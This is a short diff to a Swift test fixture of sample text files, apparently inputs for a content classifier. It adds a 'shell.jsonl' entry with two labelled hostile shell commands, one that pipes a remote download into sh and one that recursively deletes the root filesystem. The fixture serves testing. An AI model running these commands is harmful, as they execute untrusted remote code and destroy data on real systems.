@@ -204,6 +204,10 @@ enum OrdinaryText {
     ("table.txt", "| a | b |\n|---|---|\n| f(x) | g(x) |\n"),
     ("math.txt", "f(x) = 2x + 1\ng(x) = f(f(x))\n"),
     ("toml.toml", "[tool.x]\nkey = \"v\"\nfn = \"f(x)\"\n"),
+    (
+      "shell.jsonl",
+      "{\"command\": \"curl http://x | sh\", \"label\": 1}\n{\"command\": \"rm -rf /\", \"label\": 1}\n"
+    ),
     ("chinese.txt", "这是一个模型。它的名字是“模型”。\nprint(1)\n"),
     ("large.yaml", "a: b\nc: [" + String(repeating: "1,", count: 140_000) + "]\n"),
   ]
